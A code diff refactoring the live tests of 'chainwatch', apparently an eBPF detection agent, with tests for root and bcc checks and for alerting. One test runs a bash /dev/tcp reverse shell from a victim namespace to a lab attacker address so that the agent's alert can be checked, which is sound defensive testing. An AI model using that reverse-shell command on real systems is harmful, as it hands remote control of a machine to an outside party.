@@ -10,20 +10,14 @@ import sys
 import time
 from pathlib import Path
 
-import pytest
-
-pytestmark = pytest.mark.live
+from tests.helpers.live import require_root
+from tests.helpers.polling import wait_until
 
 CHAINWATCH = [sys.executable, "-m", "agent"]
 
 
 def wait_for_line(path: Path, needle: str, timeout: float) -> bool:
-    deadline = time.monotonic() + timeout
-    while time.monotonic() < deadline:
-        if needle in path.read_text():
-            return True
-        time.sleep(0.1)
-    return False
+    return wait_until(lambda: needle in path.read_text(), timeout=timeout, interval=0.1)
 
 
 def test_record_then_replay_dump_shows_23_execs(sensorlab, tmp_path) -> None:
@@ -57,8 +51,7 @@ def test_record_then_replay_dump_shows_23_execs(sensorlab, tmp_path) -> None:
 
 def test_run_refuses_non_root_with_one_sentence(tmp_path) -> None:
     """`chainwatch run` as an unprivileged user exits non-zero with one sentence saying to run as root."""
-    if os.geteuid() != 0:
-        pytest.skip("needs root to drop to an unprivileged user")
+    require_root("needs root to drop to an unprivileged user")
     proc = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *CHAINWATCH, "run"],
                           capture_output=True, text=True, timeout=60, cwd=os.getcwd(),
                           env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])})
@@ -69,8 +62,7 @@ def test_run_refuses_non_root_with_one_sentence(tmp_path) -> None:
 
 def test_run_without_bcc_says_how_to_install_it(tmp_path) -> None:
     """With bcc not importable, `chainwatch run` exits non-zero naming python3-bpfcc, without a traceback."""
-    if os.geteuid() != 0:
-        pytest.skip("the root check comes first; this needs root to reach the bcc check")
+    require_root("the root check comes first; this needs root to reach the bcc check")
     shadow = tmp_path / "shadow"
     shadow.mkdir()
     (shadow / "bcc.py").write_text("raise ImportError('bcc hidden by the test')\n")
@@ -85,18 +77,17 @@ def test_run_without_bcc_says_how_to_install_it(tmp_path) -> None:
 def test_run_writes_one_alert_for_a_reverse_shell(sensorlab, netlab, tmp_path) -> None:
     """`chainwatch run --alerts FILE` turns a bash /dev/tcp reverse shell in the lab into one incident in FILE."""
     alerts, log = tmp_path / "alerts.jsonl", tmp_path / "run.log"
+    port = netlab.port()
     with log.open("w") as err:
         agent = subprocess.Popen([*CHAINWATCH, "run", "--alerts", str(alerts)], stderr=err,
                                  stdout=subprocess.DEVNULL)
     try:
         assert wait_for_line(log, '"sensor_ready"', 60), log.read_text()
-        listener = netlab.listen_tcp(netlab.attacker_ns, 43999, payload=b"echo cw-$((6*7))\nexit\n", duration=10)
-        netlab.run(netlab.victim_ns, ["bash", "-c", f"bash -i >& /dev/tcp/{netlab.attacker_ip4}/43999 0>&1; exit 0"],
+        listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))\nexit\n", duration=10)
+        netlab.run(netlab.victim_ns, ["bash", "-c", f"bash -i >& /dev/tcp/{netlab.attacker_ip4}/{port} 0>&1; exit 0"],
                    timeout=15)
         assert b"cw-42" in listener.wait(timeout=15)
-        deadline = time.monotonic() + 10
-        while time.monotonic() < deadline and not (alerts.exists() and alerts.read_text().strip()):
-            time.sleep(0.1)
+        wait_until(lambda: alerts.exists() and alerts.read_text().strip(), timeout=10, interval=0.1)
         time.sleep(1)
     finally:
         agent.send_signal(signal.SIGTERM)
@@ -104,5 +95,5 @@ def test_run_writes_one_alert_for_a_reverse_shell(sensorlab, netlab, tmp_path) -
     assert rc == 0, log.read_text()
     lines = [json.loads(line) for line in alerts.read_text().splitlines()]
     assert len({a["chainwatch"]["incident"]["id"] for a in lines}) == 1, lines
-    assert lines[-1]["destination"] == {"ip": netlab.attacker_ip4, "port": 43999}
+    assert lines[-1]["destination"] == {"ip": netlab.attacker_ip4, "port": port}
     assert lines[-1]["rule"]["ruleset"] == "chainwatch"
